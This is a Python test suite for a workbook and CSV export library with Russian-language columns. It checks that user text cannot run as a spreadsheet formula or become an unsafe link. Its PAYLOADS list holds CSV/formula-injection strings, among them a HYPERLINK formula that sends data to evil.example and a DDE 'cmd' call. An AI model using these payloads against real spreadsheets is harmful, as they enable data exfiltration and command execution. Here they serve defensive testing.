"""Workbooks and CSV files are read back cell by cell."""

import csv
import datetime as dt
import io
import tempfile
import tracemalloc
import zipfile
from decimal import Decimal
from fractions import Fraction

import pytest
from django.test import override_settings
from hypothesis import Phase, given, settings
from hypothesis import strategies as st
from lxml import etree
from openpyxl import load_workbook

from common.csvfiles import BOM, write_csv
from common.workbooks import (
    Column,
    Formula,
    Marked,
    WorkbookLimitError,
    WorkbookWriter,
    safe_sheet_name,
    sinks,
    table,
)

CREATED = dt.datetime(2026, 11, 23, 12, 0, tzinfo=dt.UTC)

PAYLOADS = [
    "=1+1",
    "+7 900 000-00-00",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"Нажмите")',
    "=cmd|'/C calc'!A0",
    "＝1+1",
    "＋1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "  =1+1",
    "{=SUM(A1:A2)}",
    '<r><t>x</t></r></is></c><c r="Z9"><f>1+1</f></c><r></r>',
]


def written(columns, rows, *, constant_memory=False, **options):
    """Return the bytes of a workbook with one sheet."""
    buffer = io.BytesIO()
    with WorkbookWriter(buffer, title="Проба", created=CREATED, constant_memory=constant_memory) as book:
        book.sheet("Лист", columns, rows, **options)
    return buffer.getvalue()


def sheet_of(data, *, values=False):
    return load_workbook(io.BytesIO(data), data_only=values).worksheets[0]


def formulas_in(data):
    """Count the formula elements in all sheets with a strict XML parser."""
    strict = etree.XMLParser(resolve_entities=False, no_network=True, recover=False)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert archive.testzip() is None
        parts = {
            name: etree.fromstring(archive.read(name), strict)
            for name in archive.namelist()
            if name.endswith((".xml", ".rels"))
        }
    return sum(
        len(root.findall(".//{*}f")) for name, root in parts.items() if name.startswith("xl/worksheets/sheet")
    )


@pytest.mark.parametrize("constant_memory", [False, True], ids=["in memory", "streaming"])
@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_typed_by_a_user_is_a_string_cell_in_every_place(payload, constant_memory):
    columns = [
        Column(payload, key="text", note=payload),
        Column("Ссылка", key="link", kind="link"),
        Column("Число", key="number", kind="integer"),
        Column("Дата", key="date", kind="date"),
        Column("Район", key="district", choices=[payload, "Центральный"]),
    ]
    row = dict.fromkeys(["text", "link", "number", "date", "district"], payload)
    data = written(columns, [row], constant_memory=constant_memory, heading_lines=[payload], totals=payload)

    sheet = sheet_of(data)
    assert formulas_in(data) == 0
    expected = payload.replace("\r", "\n")
    assert [cell.value for cell in sheet[4]] == [expected] * 5
    assert {cell.data_type for cell in sheet[4]} == {"s"}
    assert sheet["A1"].value == expected
    assert sheet["A3"].value == expected
    assert sheet["A5"].value == expected
    assert sheet["B4"].hyperlink is None


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_puts_an_apostrophe_before_what_a_spreadsheet_would_run(payload):
    stream = io.StringIO()
    write_csv(stream, [Column("Имя", key="name"), Column("Сумма", key="sum")], [{"name": payload, "sum": -5}])

    _, (name, amount) = csv.reader(io.StringIO(stream.getvalue().removeprefix(BOM)), delimiter=";")
    text = payload.replace("\r", "\n")
    harmless = payload.startswith(("{", "<"))
    assert name == (text if harmless else f"'{text}")
    assert amount == "-5"


def test_csv_keeps_numbers_dates_and_shares_readable_for_russian_excel():
    columns = [
        Column("Целое", key="a", kind="integer"),
        Column("Дробное", key="b", kind="number"),
        Column("Доля, %", key="c", kind="percent"),
        Column("Дата", key="d", kind="date"),
        Column("Когда", key="e", kind="datetime"),
        Column("Пусто", key="f"),
        Column("Текст", key="g"),
    ]
    row = {
        "a": -12,
        "b": Decimal("12.50"),
        "c": Fraction(252, 1370),
        "d": dt.date(2021, 12, 31),
        "e": dt.datetime(2021, 12, 31, 9, 5),
        "f": None,
        "g": "а;б «в»",
    }
    stream = io.StringIO()
    assert write_csv(stream, columns, [row, list(row.values())]) == 2

    lines = stream.getvalue().split("\r\n")
    assert lines[0] == f"{BOM}Целое;Дробное;Доля, %;Дата;Когда;Пусто;Текст"
    assert lines[1] == lines[2] == '-12;12,50;18,4;31.12.2021;31.12.2021 09:05;;"а;б «в»"'
    assert stream.getvalue().encode("utf-8").startswith(b"\xef\xbb\xbf")


def test_dates_and_numbers_are_real_ones():
    columns = [
        Column("Дата", kind="date"),
        Column("Когда", kind="datetime"),
        Column("Сколько", kind="integer"),
        Column("Средний балл", kind="number", places=2),
        Column("Доля", kind="percent"),
        Column("ИНН"),
    ]
    moment = dt.datetime(2026, 11, 23, 9, 30, 15)
    row = [dt.date(2021, 12, 31), moment, 1370, Fraction(254, 32), Fraction(252, 1370), "5400000017"]
    sheet = sheet_of(written(columns, [row]))

    day, when, count, mean, share, inn = sheet[2]
    assert day.value == dt.datetime(2021, 12, 31) and day.number_format == "dd.mm.yyyy"
    assert when.value == moment and when.number_format == "dd.mm.yyyy hh:mm"
    assert count.value == 1370 and count.number_format == "#,##0"
    assert mean.value == 7.9375 and mean.number_format == "#,##0.00"
    assert share.value == pytest.approx(252 / 1370, rel=1e-14) and share.number_format == "0.0\\ %"
    assert inn.value == "5400000017" and inn.number_format == "@"


@override_settings(TIME_ZONE="Asia/Novosibirsk")
def test_a_moment_with_a_time_zone_is_written_in_local_time():
    moment = dt.datetime(2026, 11, 23, 18, 0, tzinfo=dt.UTC)
    sheet = sheet_of(
        written([Column("Когда", kind="datetime"), Column("День", kind="date")], [[moment, moment]])
    )

    assert sheet["A2"].value == dt.datetime(2026, 11, 24, 1, 0)
    assert sheet["B2"].value == dt.datetime(2026, 11, 24)


@pytest.mark.parametrize(
    ("value", "kept"),
    [
        (dt.date(1899, 12, 31), "31.12.1899"),
        ("a\tb  ", "a\tb  "),
        (10**15, "1000000000000000"),
        ("нет данных", "нет данных"),
        ("a\x00b\x0bc\ud800d\uffff", "abcd"),
        ("ё" * 40_000, "ё" * 32_766 + "…"),
        ("😀" * 20_000, "😀" * 16_383 + "…"),
    ],
    ids=["before 1900", "spaces", "too many digits", "words", "control", "too long", "astral"],
)
@pytest.mark.parametrize("constant_memory", [False, True], ids=["in memory", "streaming"])
def test_what_a_number_or_date_cell_cannot_hold_stays_text(value, kept, constant_memory):
    data = written([Column("Значение", kind="integer")], [[value]], constant_memory=constant_memory)
    cell = sheet_of(data)["A2"]
    assert (cell.data_type, cell.value) == ("s", kept)


@pytest.mark.parametrize(
    ("constant_memory", "part"), [(False, "xl/sharedStrings.xml"), (True, "xl/worksheets/sheet1.xml")]
)
def test_text_that_looks_like_an_escape_of_the_format_is_escaped_itself(constant_memory, part):
    data = written([Column("Текст")], [["_x0041_"]], constant_memory=constant_memory)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        texts = [node.text for node in etree.fromstring(archive.read(part)).iter("{*}t")]
    assert texts == ["Текст", "_x005F_x0041_"]


def test_totals_and_shares_are_live_formulas_with_their_value_beside_them():
    columns = [
        Column("Школа", key="name"),
        Column("Дети", key="base", kind="integer", total="sum"),
        Column("Наставляемые", key="mentees", kind="integer", total="sum"),
        Column("Доля", key="share", kind="percent", ratio=("mentees", "base")),
        Column("Отчёт", key="report", total="count"),
    ]
    rows = [
        {"name": "№ 1", "base": 412, "mentees": 83, "report": "да"},
        {"name": "№ 4", "base": 0, "mentees": 0},
        {"name": "№ 5", "base": 57, "mentees": None, "report": "да"},
    ]
    data = written(columns, rows, totals="Итого", heading_lines=["Свод", "2021 год"])

    live, cached = sheet_of(data), sheet_of(data, values=True)
    no_data = cached["D7"].value
    assert live["D5"].value == f'=IF(COUNT(C5,B5)<2,"{no_data}",IF(B5=0,"–",C5/B5))'
    assert [cached[f"D{row}"].value for row in (5, 6)] == [83 / 412, "–"]
    assert no_data and not isinstance(no_data, (int, float))
    assert [cell.value for cell in live[8]] == [
        "Итого",
        "=SUM(B5:B7)",
        "=SUM(C5:C7)",
        f'=IF(COUNT(C8,B8)<2,"{no_data}",IF(B8=0,"–",C8/B8))',
        "=COUNTA(E5:E7)",
    ]
    assert [cell.value for cell in cached[8]] == ["Итого", 469, 83, 83 / 469, 2]
    assert live.auto_filter.ref == "A4:E7"


def test_a_municipal_figure_that_is_no_sum_over_schools_is_given():
    columns = [
        Column("Школа", key="name"),
        Column("Дети", key="base", kind="integer", total="sum"),
        Column("Наставляемые", key="mentees", kind="integer", total="sum"),
        Column("Доля", key="share", kind="percent", ratio=("mentees", "base")),
    ]
    rows = [{"name": "№ 1", "base": 10, "mentees": 5}, {"name": "№ 2", "base": 10, "mentees": 5}]
    data = written(columns, rows, totals={"name": "Муниципалитет", "mentees": 9})

    assert [cell.value for cell in sheet_of(data, values=True)[4]] == ["Муниципалитет", 20, 9, 9 / 20]
    assert sheet_of(data)["C4"].value == 9


def test_totals_of_an_empty_table_are_zero_and_a_dash():
    columns = [
        Column("Школа", key="name"),
        Column("Дети", key="base", kind="integer", total="sum"),
        Column("Доля", key="share", kind="percent", ratio=("base", "base")),
    ]
    data = written(columns, [], totals="Итого")
    assert [cell.value for cell in sheet_of(data, values=True)[2]] == ["Итого", 0, "–"]


def test_a_formula_of_ours_names_columns_of_its_row_and_totals_of_another_sheet():
    columns = [
        Column("Было", key="was", kind="integer", total="sum"),
        Column("Стало", key="now", kind="integer"),
        Column("Изменение", key="change", kind="integer"),
    ]
    buffer = io.BytesIO()
    with WorkbookWriter(buffer, title="Свод", created=CREATED) as book:
        rows = [{"was": 3, "now": 10, "change": Formula("={now}-{was}", 7)}]
        schools = book.sheet("По школам", columns, rows, totals={"now": 10})
        total = Formula(f"={schools.total_ref('was')}", 3)
        book.sheet("Свод", [Column("Всего", kind="integer")], [[total]])

    workbook = load_workbook(io.BytesIO(buffer.getvalue()))
    assert workbook["По школам"]["C2"].value == "=B2-A2"
    assert workbook["Свод"]["A2"].value == "='По школам'!$A$3"
    assert load_workbook(io.BytesIO(buffer.getvalue()), data_only=True)["Свод"]["A2"].value == 3
    assert schools.cell("now", 0) == "B2"
    assert schools.cell_ref("now", 0) == "'По школам'!$B$2"
    assert schools.range_ref("now") == "'По школам'!$B$2:$B$2"


def test_mistakes_of_the_programmer_are_refused_at_once():
    with pytest.raises(ValueError, match="unknown kind"):
        Column("Что-то", kind="money")
    with pytest.raises(ValueError, match="ratio"):
        Column("Доля", ratio=("a", "b"))
    with pytest.raises(ValueError, match="does not have"):
        written([Column("А", key="a")], [{"a": Formula("={b}+1", 1)}])
    with pytest.raises(ValueError, match="1 values"):
        written([Column("А"), Column("Б")], [["только одно"]])


@pytest.mark.parametrize(
    ("address", "clickable"),
    [
        ("https://school17.example.org/наставничество", True),
        ("http://example.org/a?b=c&d=e#f", True),
        ("javascript:alert(1)", False),
        ("internal:Лист!A1", False),
        ("external:c:\\temp\\a.xlsx", False),
        ("file:///etc/passwd", False),
        ("https://", False),
        ("https://a b", False),
        ("https://user@example.org/", False),
        ("https://example.org:99999/", False),
        ("https://example.org/" + "я" * 2100, False),
        ('https://example.org/"x', False),
        ("см. на сайте", False),
    ],
)
@pytest.mark.parametrize("constant_memory", [False, True], ids=["in memory", "streaming"])
def test_only_a_whole_web_address_becomes_a_link(address, clickable, constant_memory):
    data = written([Column("Ссылка", kind="link")], [[address]], constant_memory=constant_memory)
    cell = sheet_of(data)["A2"]
    assert cell.value == address
    assert (cell.hyperlink is not None) == clickable


def test_links_above_the_limit_of_excel_stay_text(monkeypatch):
    monkeypatch.setattr(sinks, "MOST_LINKS", 2)
    sheet = sheet_of(
        written([Column("Ссылка", kind="link")], [[f"https://example.org/{n}"] for n in range(4)])
    )
    assert [sheet[f"A{row}"].hyperlink is not None for row in range(2, 6)] == [True, True, False, False]
    assert sheet["A5"].value == "https://example.org/3"


def test_more_rows_than_a_sheet_holds_are_refused_and_no_file_appears(tmp_path, monkeypatch):
    monkeypatch.setattr(table, "MOST_ROWS", 3)
    target = tmp_path / "export.xlsx"
    with (
        pytest.raises(WorkbookLimitError),
        WorkbookWriter(target, title="Выгрузка", constant_memory=True) as book,
    ):
        book.sheet("Лист", [Column("№")], [[number] for number in range(10)])
    assert list(tmp_path.iterdir()) == []


def test_header_is_frozen_repeated_and_filtered_on_a_landscape_page():
    sheet = sheet_of(
        written([Column("ФИО"), Column("Класс")], [["Белов А. С.", "9Б"]], heading_lines=["Реестр"])
    )
    assert sheet.freeze_panes == "A4"
    assert sheet.auto_filter.ref == "A3:B4"
    assert sheet.print_title_rows == "$3:$3"
    assert (sheet.page_setup.orientation, sheet.page_setup.paperSize) == ("landscape", 9)
    assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (None, 0)
    assert "&P" in sheet.oddFooter.right.text and "&N" in sheet.oddFooter.right.text


@pytest.mark.parametrize("constant_memory", [False, True], ids=["in memory", "streaming"])
def test_widths_and_heights_follow_the_content(constant_memory):
    columns = [
        Column("№", kind="integer"),
        Column("Что исправить"),
        Column("ИНН", hidden=True),
        Column("Свой", width=33),
    ]
    rows = [[1, "Коротко", "1", ""], [2, "Проверьте год рождения: " * 12, "2", ""]]
    sheet = sheet_of(written(columns, rows, constant_memory=constant_memory, heading_lines=["Строки " * 40]))

    assert sheet.column_dimensions["A"].width < 10 < 40 < sheet.column_dimensions["B"].width < 55
    assert sheet.column_dimensions["C"].hidden
    assert sheet.column_dimensions["D"].width == pytest.approx(33, abs=1)
    assert sheet.row_dimensions[4].height is None
    assert sheet.row_dimensions[5].height >= 90
    assert sheet.row_dimensions[1].height >= 60
    assert [str(merged) for merged in sheet.merged_cells.ranges] == ["A1:D1"]


def test_short_choices_stand_in_the_rule_and_long_ones_on_a_hidden_sheet():
    long = [f"Муниципальное учреждение № {number}, Приозёрск" for number in range(40)]
    columns = [
        Column("Ответ", choices=["достигнуто", "частично", "нет"]),
        Column("Организация", choices=long),
        Column("Снова", choices=long),
    ]
    data = written(columns, [["нет", long[0], long[1]]])

    workbook = load_workbook(io.BytesIO(data))
    sheet, lists = workbook.worksheets
    rules = {str(rule.sqref): rule for rule in sheet.data_validations.dataValidation}
    assert rules["A2:A202"].formula1 == '"достигнуто,частично,нет"'
    assert rules["B2:B202"].formula1 == rules["C2:C202"].formula1 == f"{lists.title}!$A$1:$A$40"
    assert [row[0] for row in lists.values] == long
    assert lists.sheet_state == "veryHidden"
    assert {rule.errorStyle for rule in rules.values()} == {"warning"}


def test_notes_and_tints_say_what_is_meant():
    columns = [Column("Год рождения", key="year", note="Полная дата тоже подходит")]
    sheet = sheet_of(written(columns, [{"year": Marked("2101", "bad")}, {"year": "2010"}]))
    assert "Полная дата тоже подходит" in sheet["A1"].comment.text
    assert sheet["A2"].fill.start_color.rgb == "FFFDE8EA"
    assert sheet["A3"].fill.fill_type is None


def test_native_chart_has_columns_a_target_line_and_an_alternative_text():
    columns = [
        Column("Школа", key="name"),
        Column("Доля", key="share", kind="percent"),
        Column("Цель", key="target", kind="percent"),
    ]
    buffer = io.BytesIO()
    with WorkbookWriter(buffer, title="Свод", created=CREATED) as book:
        rows = [{"name": f"№ {n}", "share": Fraction(n, 10), "target": Fraction(1, 5)} for n in range(1, 4)]
        sheet = book.sheet("Свод/2021", columns, rows)
        book.bar_chart(
            sheet,
            title="Цель 20 % & <ниже>",
            categories="name",
            values="share",
            target="target",
            description="Две школы ниже цели",
        )
        empty = book.sheet("Пусто", columns, [])
        book.bar_chart(empty, title="Нет", categories="name", values="share")

    with zipfile.ZipFile(buffer) as archive:
        charts = [name for name in archive.namelist() if name.startswith("xl/charts/")]
        chart = etree.fromstring(archive.read(charts[0]))
        drawing = archive.read("xl/drawings/drawing1.xml").decode()
    assert charts == ["xl/charts/chart1.xml"]
    assert [len(chart.findall(f".//{{*}}{kind}")) for kind in ("barChart", "lineChart")] == [1, 1]
    assert [ref.text for ref in chart.findall(".//{*}ser/{*}val//{*}f")] == [
        "'Свод 2021'!$B$2:$B$4",
        "'Свод 2021'!$C$2:$C$4",
    ]
    assert "Цель 20 % & <ниже>" in "".join(chart.itertext())
    assert 'descr="Две школы ниже цели"' in drawing


def test_the_same_content_gives_the_same_bytes_and_names_no_person():
    columns = [Column("Имя", choices=["а", "б"]), Column("Доля", kind="percent")]
    first, second = (written(columns, [["а", Fraction(1, 3)]], heading_lines=["Свод"]) for _ in range(2))
    assert first == second

    properties = load_workbook(io.BytesIO(first)).properties
    assert (properties.title, properties.created) == ("Проба", CREATED.replace(tzinfo=None))
    assert not properties.creator and not properties.lastModifiedBy


@pytest.mark.parametrize(
    ("name", "taken", "safe"),
    [
        ("По школам: 2021/22", [], "По школам 2021 22"),
        ("'Свод'", [], "Свод"),
        ("history", [], "history_"),
        ("свод", ["СВОД", "Свод (2)"], "свод (3)"),
        ("ё" * 40, [], "ё" * 31),
        ("ё" * 40, ["ё" * 31], "ё" * 27 + " (2)"),
        ("😀" * 20, [], "😀" * 15),
        ("Лист\x00\n1", [], "Лист 1"),
    ],
)
def test_sheet_names_are_made_acceptable_and_different(name, taken, safe):
    assert safe_sheet_name(name, taken) == safe
    assert safe_sheet_name("[]:*?/\\")


EVERY_KIND = [
    Column("Текст", key="text", choices=["да", "нет"], note="Подсказка"),
    Column("Целое", key="integer", kind="integer", total="sum"),
    Column("База", key="base", kind="integer", total="sum"),
    Column("Число", key="number", kind="number", places=2),
    Column("Доля", key="percent", kind="percent", ratio=("integer", "base")),
    Column("Дата", key="date", kind="date"),
    Column("Когда", key="datetime", kind="datetime"),
    Column("Ссылка", key="link", kind="link"),
    Column("Пометка", key="mark", total="count"),
]
texts = st.text(st.characters(exclude_characters="_"), max_size=60)
numbers = st.one_of(
    st.none(),
    st.integers(-(10**16), 10**16),
    st.decimals(-1000, 1000, places=3),
    st.floats(-1e9, 1e9),
    st.fractions(-9, 9, max_denominator=500),
    st.booleans(),
    texts,
)
some_row = st.fixed_dictionaries(
    {
        "text": st.one_of(st.none(), texts, st.just("Проверьте год рождения: 2101 " * 9)),
        "integer": numbers,
        "base": numbers,
        "number": numbers,
        "date": st.one_of(st.none(), st.dates(), texts),
        "datetime": st.one_of(st.none(), st.datetimes(), st.dates()),
        "link": st.one_of(st.just("https://example.org/?a=1&b=2"), texts),
        "mark": st.one_of(st.none(), texts, st.builds(Marked, texts, st.sampled_from(["bad", "ok"]))),
    }
)


@settings(max_examples=15, deadline=None, phases=set(Phase) - {Phase.shrink, Phase.explain})
@given(st.lists(some_row, max_size=5))
def test_streaming_writes_the_same_cells_as_writing_in_memory(rows):
    def cells(constant_memory):
        data = written(
            EVERY_KIND, rows, constant_memory=constant_memory, heading_lines=["Реестр"], totals="Итого"
        )
        live, cached = sheet_of(data), sheet_of(data, values=True)
        return {
            cell.coordinate: (
                cell.data_type,
                cell.value,
                cached[cell.coordinate].value,
                cell.number_format,
                cell.alignment.horizontal,
                cell.fill.start_color.rgb,
                cell.hyperlink and cell.hyperlink.target,
                live.row_dimensions[cell.row].height,
            )
            for row in live.iter_rows()
            for cell in row
        }

    streamed, in_memory = cells(True), cells(False)
    assert {place: cell for place, cell in streamed.items() if cell != in_memory[place]} == {}
    assert streamed.keys() == in_memory.keys()


def test_a_number_that_is_none_is_refused():
    for value in (float("nan"), float("inf"), Decimal("NaN")):
        with pytest.raises(ValueError, match="Балл"):
            written([Column("Балл", kind="number")], [[value]])


def test_memory_of_an_export_does_not_grow_with_its_rows():
    def peak(count):
        rows = ([number, f"Ученик {number}", dt.date(2021, 9, 1)] for number in range(count))
        columns = [Column("№", kind="integer"), Column("ФИО"), Column("Дата", kind="date")]
        with tempfile.TemporaryFile() as target:
            tracemalloc.start()
            with WorkbookWriter(target, title="Реестр", constant_memory=True) as book:
                book.sheet("Реестр", columns, rows)
            _, most = tracemalloc.get_traced_memory()
            tracemalloc.stop()
        return most

    peak(100)
    assert peak(12_000) < 1.2 * peak(3_000)


def test_a_stream_of_rows_is_read_once_and_only_while_writing(tmp_path):
    seen = []

    def rows():
        for number in range(3_000):
            seen.append(number)
            yield [number, f"Ученик {number}"]

    target = tmp_path / "реестр.xlsx"
    with WorkbookWriter(target, title="Реестр", constant_memory=True) as book:
        handle = book.sheet("Реестр", [Column("№", kind="integer"), Column("ФИО")], rows())
        assert not target.exists()
    assert (len(seen), handle.row_count) == (3_000, 3_000)
    sheet = load_workbook(target, read_only=True).worksheets[0]
    assert [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)] == seen
